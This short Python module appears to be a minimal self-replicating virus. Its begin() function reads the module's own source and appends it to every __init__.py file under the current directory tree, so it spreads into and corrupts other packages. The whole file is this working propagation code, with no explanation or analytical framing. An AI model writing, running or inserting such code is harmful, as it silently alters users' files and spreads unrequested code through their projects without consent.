import inspect
import sys
from pathlib import Path


def begin():
    own = inspect.getsource(sys.modules[__name__])
    for path in Path.cwd().rglob('__init__.py'):
        path.write_text(path.read_text() + own)
